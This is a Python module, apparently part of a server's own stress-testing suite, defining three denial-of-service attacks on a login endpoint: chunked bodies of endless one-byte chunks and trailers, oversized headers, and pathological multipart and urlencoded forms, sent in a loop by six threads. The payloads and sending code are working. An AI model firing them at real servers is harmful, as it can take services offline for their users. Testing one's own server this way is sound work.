"""Requests that are small on the line and could keep a reader busy: bodies in crumbs, endless heads."""

import itertools
import socket
from collections.abc import Iterator
from contextlib import suppress
from functools import partial
from multiprocessing.synchronize import Event
from threading import Thread

from scripts.attack.attack import Attack, Target

CLIENTS = 6
HEAD = b"POST /log-in HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nX-Forwarded-For: 198.51.100.9\r\n"
PARTS = b"Content-Type: multipart/form-data; boundary=a\r\n"
URLENCODED = b"Content-Type: application/x-www-form-urlencoded\r\n"
QUOTED = (
    b'--a\r\nContent-Disposition: form-data; name="email"; b="' + b'\\"' * 120_000 + b'"\r\n\r\nx\r\n--a--'
)
FIELD = b'--a\r\nContent-Disposition: form-data; name="email"; b="' + b'\\"' * 200 + b'"\r\n\r\nx\r\n'
Requests = tuple[bytes, ...]


def whole(kind: bytes, body: bytes) -> bytes:
    return HEAD + kind + b"Content-Length: %d\r\n\r\n" % len(body) + body


CRUMBS: Requests = (
    HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1\r\na\r\n" * 250_000,
    HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + b"1;" + b"b" * 1_000_000,
    HEAD + b"Transfer-Encoding: chunked\r\n\r\n0\r\n" + b"X-A: b\r\n" * 100_000,
)
HEADS: Requests = (
    whole(b"Content-Type: multipart/form-data; boundary=" + b"a" * 60_000 + b"\r\n", b""),
    whole(b"Accept: " + b"text/html;q=0.1," * 3_700 + b"\r\n", b""),
    whole(b"Origin: http://[\r\n", b""),
)
FORMS: Requests = (
    whole(PARTS, QUOTED),
    whole(PARTS, b"--a\r\n" + b"X: y\r\n" * 40_000),
    whole(PARTS, FIELD * 120 + b"--a--"),
    whole(URLENCODED, b"a=1&" * 60_000),
    whole(URLENCODED, b"a=%E0%B8%81%E0&" * 1_900),
    whole(URLENCODED, b"email=" + b"%E0%B8%81" * 28_000),
    whole(URLENCODED, b"email=" + b"<" * 250_000),
)


def run(requests: Requests, target: Target, over: Event) -> None:
    """Send these requests in turn until the event is set, by CLIENTS at once."""
    threads = [Thread(target=_send, args=(itertools.cycle(requests), target, over)) for _ in range(CLIENTS)]
    for one in threads:
        one.start()
    for one in threads:
        one.join()


def _send(requests: Iterator[bytes], target: Target, over: Event) -> None:
    while not over.is_set():
        # Who is refused is also cut off.
        with suppress(OSError), socket.create_connection((target.host, target.port), timeout=10) as link:
            link.sendall(next(requests))
            while link.recv(65_536):
                pass


ATTACKS = [
    Attack(
        "crumbs", "bodies of one byte a chunk, endless chunks and trailers", CLIENTS, partial(run, CRUMBS)
    ),
    Attack("endless heads", "headers of 60 KB that are slow to read", CLIENTS, partial(run, HEADS)),
    Attack("worst forms", "forms of 250 KB that are slow to read", CLIENTS, partial(run, FORMS)),
]
